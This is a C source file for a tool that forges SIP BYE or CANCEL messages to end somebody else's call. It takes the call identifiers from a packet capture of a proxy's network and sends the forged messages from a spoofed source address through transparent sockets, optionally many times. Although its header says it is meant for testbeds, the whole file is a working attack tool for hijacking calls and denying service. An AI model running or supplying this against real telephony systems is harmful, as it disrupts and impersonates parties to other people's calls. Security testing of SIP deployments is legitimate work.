/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * forge - end somebody else's call, the way an attacker would.
 *
 *   forge bye|cancel -r CAPTURE -p PROXY -s SOURCE -d DESTINATION
 *         [-i CALL-ID] [-a caller|callee] [-n COPIES] [-P PORT]
 *
 * Takes the identifiers of the newest call (or of CALL-ID) out of a capture of
 * the proxy's network and sends, from the address SOURCE that need not be its
 * own, to DESTINATION:
 *
 *   bye     a BYE of the party named by -a (the caller), with the tags,
 *           Call-ID, Contact and a CSeq that the other party will take
 *   cancel  a CANCEL of the INVITE that PROXY sent on, with its Request-URI
 *           and its top Via, so that it matches the transaction
 *
 * The message is printed. For testbeds: it works only where one may give
 * oneself any address (CAP_NET_ADMIN).
 */
#include "message.h"

#include <arpa/inet.h>
#include <errno.h>
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define CSEQ_AHEAD 100 /* of the INVITE's: above what the party has used */

struct forgery {
	const char *what, *capture, *proxy, *source, *destination, *port;
	const char *call_id;
	bool by_callee;
	int copies;
	struct capture c;
	const struct message *invite, *answer;
};

static void die(const char *what, const char *why)
{
	fprintf(stderr, "forge: %s: %s\n", what, why);
	exit(1);
}

static void usage(void)
{
	fputs("usage: forge bye|cancel -r CAPTURE -p PROXY -s SOURCE "
	      "-d DESTINATION\n"
	      "             [-i CALL-ID] [-a caller|callee] [-n COPIES] "
	      "[-P PORT]\n",
	      stderr);
	exit(2);
}

/* ---- what is known of the call ---- */

static bool of_call(const struct forgery *f, const struct message *m)
{
	return text_is(m->method, "INVITE") &&
	       (!f->call_id || text_is(m->call_id, f->call_id));
}

/* The newest INVITE that the proxy sent on. */
static void find_invite(struct forgery *f)
{
	for (size_t i = f->c.n; i--;) {
		const struct message *m = &f->c.m[i];

		if (!of_call(f, m) || !m->request || strcmp(m->src, f->proxy))
			continue;
		f->invite = m;
		return;
	}
	die(f->capture, "no INVITE from the proxy in it");
}

/* The newest answer to it that has the callee's tag. */
static void find_answer(struct forgery *f)
{
	for (size_t i = f->c.n; i--;) {
		const struct message *m = &f->c.m[i];

		if (m->request || !of_call(f, m) ||
		    !text_same(m->call_id, f->invite->call_id) ||
		    strcmp(m->dst, f->proxy) || m->status <= 100 ||
		    m->status >= 300 || !text_tag(message_field(m, "To", 0)).p)
			continue;
		f->answer = m;
		return;
	}
	die(f->capture, "no answer of the callee in it");
}

/* ---- the messages ---- */

static size_t write_bye(const struct forgery *f, char *out, size_t room)
{
	const struct message *me = f->by_callee ? f->answer : f->invite;
	const struct message *you = f->by_callee ? f->invite : f->answer;
	struct text uri = text_uri(message_field(you, "Contact", 0));
	struct text from = message_field(f->answer, "From", 0);
	struct text to = message_field(f->answer, "To", 0);
	bool v6 = strchr(f->source, ':') != NULL;
	int n;

	if (!uri.p)
		die(f->capture, "no Contact in it");
	n = snprintf(out, room,
		     "BYE %.*s SIP/2.0\r\n"
		     "Via: SIP/2.0/UDP %s%s%s:%s;branch=z9hG4bKf%lx%x\r\n"
		     "Max-Forwards: 69\r\n"
		     "From: %.*s\r\n"
		     "To: %.*s\r\n"
		     "Call-ID: %.*s\r\n"
		     "CSeq: %lu BYE\r\n"
		     "Content-Length: 0\r\n\r\n",
		     TEXT_FMT(uri), v6 ? "[" : "", f->source, v6 ? "]" : "",
		     f->port, (unsigned long)time(NULL), (unsigned)getpid(),
		     TEXT_FMT(f->by_callee ? to : from),
		     TEXT_FMT(f->by_callee ? from : to), TEXT_FMT(me->call_id),
		     f->invite->cseq + CSEQ_AHEAD);
	return n > 0 && (size_t)n < room ? (size_t)n : 0;
}

static size_t write_cancel(const struct forgery *f, char *out, size_t room)
{
	const struct message *m = f->invite;
	const char *uri = m->all.p + m->method.len + 1;
	const char *end = strstr(uri, " SIP/2.0");
	struct text via = message_field(m, "Via", 0);
	struct text from = message_field(m, "From", 0);
	struct text to = message_field(m, "To", 0);
	int n;

	n = snprintf(out, room,
		     "CANCEL %.*s SIP/2.0\r\n"
		     "Via: %.*s\r\n"
		     "Max-Forwards: 69\r\n"
		     "From: %.*s\r\n"
		     "To: %.*s\r\n"
		     "Call-ID: %.*s\r\n"
		     "CSeq: %lu CANCEL\r\n"
		     "Content-Length: 0\r\n\r\n",
		     end ? (int)(end - uri) : 0, uri, TEXT_FMT(via),
		     TEXT_FMT(from), TEXT_FMT(to), TEXT_FMT(m->call_id),
		     m->cseq);
	return n > 0 && (size_t)n < room ? (size_t)n : 0;
}

/* ---- sending with any source address ---- */

static struct addrinfo *resolve(const char *host, const char *port)
{
	struct addrinfo hints = { .ai_socktype = SOCK_DGRAM,
				  .ai_flags = AI_NUMERICHOST };
	struct addrinfo *a;
	int error = getaddrinfo(host, port, &hints, &a);

	if (error)
		die(host, gai_strerror(error));
	return a;
}

static int spoofing_socket(const struct addrinfo *src)
{
	int fd = socket(src->ai_family, SOCK_DGRAM, 0), one = 1;

	if (fd < 0)
		die("socket", strerror(errno));
	if (src->ai_family == AF_INET6
		    ? setsockopt(fd, IPPROTO_IPV6, IPV6_TRANSPARENT, &one,
				 sizeof(one))
		    : setsockopt(fd, IPPROTO_IP, IP_TRANSPARENT, &one,
				 sizeof(one)))
		die("a source address of somebody else", strerror(errno));
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(fd, src->ai_addr, src->ai_addrlen))
		die("bind", strerror(errno));
	return fd;
}

static void send_copies(const struct forgery *f, const char *text, size_t len)
{
	struct addrinfo *src = resolve(f->source, f->port);
	struct addrinfo *dst = resolve(f->destination, f->port);
	int fd = spoofing_socket(src);

	for (int i = 0; i < f->copies; i++) {
		if (sendto(fd, text, len, 0, dst->ai_addr, dst->ai_addrlen) < 0)
			die("send", strerror(errno));
	}
	close(fd);
	freeaddrinfo(src);
	freeaddrinfo(dst);
}

/* ---- */

static void read_options(struct forgery *f, int argc, char **argv)
{
	int opt;

	if (argc < 2)
		usage();
	f->what = argv[1];
	while ((opt = getopt(argc - 1, argv + 1, "r:p:s:d:i:a:n:P:")) != -1) {
		switch (opt) {
		case 'r':
			f->capture = optarg;
			break;
		case 'p':
			f->proxy = optarg;
			break;
		case 's':
			f->source = optarg;
			break;
		case 'd':
			f->destination = optarg;
			break;
		case 'i':
			f->call_id = optarg;
			break;
		case 'a':
			f->by_callee = !strcmp(optarg, "callee");
			break;
		case 'n':
			f->copies = atoi(optarg);
			break;
		case 'P':
			f->port = optarg;
			break;
		default:
			usage();
		}
	}
	if (!f->capture || !f->proxy || !f->source || !f->destination ||
	    optind != argc - 1)
		usage();
}

int main(int argc, char **argv)
{
	struct forgery f = { .copies = 1, .port = "5060" };
	char out[4096];
	const char *error;
	size_t len;

	read_options(&f, argc, argv);
	error = capture_read(&f.c, f.capture, 0);
	if (error)
		die(f.capture, error);
	capture_sort(&f.c);
	find_invite(&f);
	if (!strcmp(f.what, "bye")) {
		find_answer(&f);
		len = write_bye(&f, out, sizeof(out));
	} else if (!strcmp(f.what, "cancel")) {
		len = write_cancel(&f, out, sizeof(out));
	} else {
		usage();
	}
	if (!len)
		die(f.what, "too long");
	send_copies(&f, out, len);
	printf("%s", out);
	return 0;
}
